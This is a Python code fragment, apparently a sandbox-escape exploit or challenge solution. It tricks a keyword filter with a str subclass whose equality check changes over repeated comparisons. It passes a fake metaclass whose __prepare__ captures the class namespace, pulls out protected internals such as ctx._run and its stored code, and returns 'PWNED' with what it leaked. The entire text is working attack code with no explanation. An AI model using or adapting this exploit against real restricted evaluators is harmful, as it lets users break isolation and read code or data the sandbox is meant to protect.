class Word(str):
    asked = 0
    patience = 1

    def __hash__(self):
        return hash("metaclass")

    def __eq__(self, other):
        if str.__eq__("metaclass", other):
            Word.asked += 1
            return Word.asked > Word.patience
        return False


class Names(dict):
    def __missing__(self, name):
        if name == "priv!":
            return lambda x: x
        raise KeyError(name)


class Meta:
    names = None

    def __getattr__(self, name):
        if name == "__prepare__":
            return lambda *rest, **named: Names()
        raise AttributeError(name)

    def __call__(self, name, bases, names, **named):
        Meta.names = names


for Word.patience in range(6):
    Word.asked = 0
    try:

        class Inside(**{Word("x"): Meta()}):
            run = ctx._run

    except Exception:
        continue
    if Meta.names is not None:
        code, _ = Meta.names["run"].modules[""]
        return "PWNED " + repr(code)
return "no"
